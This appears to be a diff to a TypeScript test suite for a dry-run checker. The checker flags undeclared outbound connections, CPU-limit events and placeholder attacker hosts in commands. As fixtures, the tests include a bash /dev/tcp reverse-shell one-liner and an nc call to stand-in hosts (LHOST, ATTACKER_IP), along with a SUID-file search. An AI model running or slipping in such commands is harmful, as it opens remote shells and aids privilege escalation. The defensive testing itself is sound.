@@ -26,6 +26,21 @@ describe('findViolations', () => {
   });
 });
 
+describe('findViolations on network and CPU limits', () => {
+  it('warns on a private address, fails on a public one, and leaves a socket of the machine itself alone', () => {
+    const connect = (target: string): DryRunEvent => ({ kind: 'connect', target, command: 'python3 probe.py', canary: false });
+    expect(ids([connect('10.10.14.3:4444')])).toEqual(['dryrun-undeclared-egress:medium']);
+    expect(ids([connect('198.51.100.7:4444')])).toEqual(['dryrun-undeclared-egress:high']);
+    expect(ids([connect('[]:8000')])).toEqual([]);
+  });
+
+  it('reads a whole-disk search that runs out of CPU as slow, not as a miner', () => {
+    const cpu = (command: string): DryRunEvent => ({ kind: 'limit', target: 'CPU time 10000 ms', command, canary: false, limit: 'cpu' } as DryRunEvent);
+    expect(ids([cpu('find / -perm -4000 -type f 2>/dev/null')])).toEqual(['dryrun-limit-cpu:medium']);
+    expect(ids([cpu('python3 crunch.py')])).toEqual(['dryrun-limit-cpu:high']);
+  });
+});
+
 describe('placeholderHosts', () => {
   it('finds the destinations a command leaves for the user to fill in, and only those', () => {
     const chosen = inventedMatcher(placeholderHosts("bash -c 'bash -i >& /dev/tcp/LHOST/4444 0>&1'; nc ATTACKER_IP 9001"));
